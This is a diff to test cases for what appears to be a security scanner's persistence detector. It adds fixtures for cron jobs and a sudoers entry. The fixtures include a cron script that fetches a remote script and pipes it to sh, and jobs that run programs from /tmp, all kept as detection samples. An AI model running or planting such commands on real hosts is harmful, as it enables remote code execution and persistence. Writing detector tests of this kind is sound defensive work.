@@ -128,9 +128,13 @@ Deno.test("persistence: normal entries stay quiet (own home, root-owned programs
     "etc/cron.daily/old.dpkg-old": { content: "#!/bin/sh\ncurl http://203.0.113.5/x | sh\n", mode: 0o755 },
     "etc/cron.daily/disabled": { content: "#!/bin/sh\n/tmp/x\n", mode: 0o644 },
     "etc/cron.daily/active": { content: "#!/bin/sh\n/tmp/x\n", mode: 0o755 },
+    "etc/cron.daily/rhel.cron": { content: "#!/bin/sh\n/tmp/y\n", mode: 0o755 },
   }));
   const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
-  assert.deepEqual(summary(r.findings), ["high persistence.command.untrusted_path /etc/cron.daily/active"]);
+  assert.deepEqual(summary(r.findings), [
+    "high persistence.command.untrusted_path /etc/cron.daily/active",
+    "high persistence.command.untrusted_path /etc/cron.daily/rhel.cron",
+  ]);
   const inv = await runOne(persistence, root.path, { persistenceRecentDays: 0, persistenceInventory: true });
   const inert = inv.findings.filter((f) => f.metadata.inert === true).map((f) => f.metadata.path).sort();
   assert.deepEqual(inert, ["/etc/cron.daily/disabled", "/etc/cron.daily/old.dpkg-old", "/etc/rc.local"]);
@@ -190,6 +194,7 @@ Deno.test("persistence: sudoers — passwordless full root for non-admins, !auth
       "Defaults env_reset",
       "root ALL=(ALL:ALL) ALL",
       "%sudo ALL=(ALL:ALL) ALL",
+      "%google-sudoers ALL=(ALL:ALL) NOPASSWD:ALL",
       "alice ALL=(ALL) NOPASSWD: ALL",
       "bob ALL=(ALL) NOPASSWD: ALL",
       "%docker ALL=(root) NOPASSWD: /usr/bin/vim",
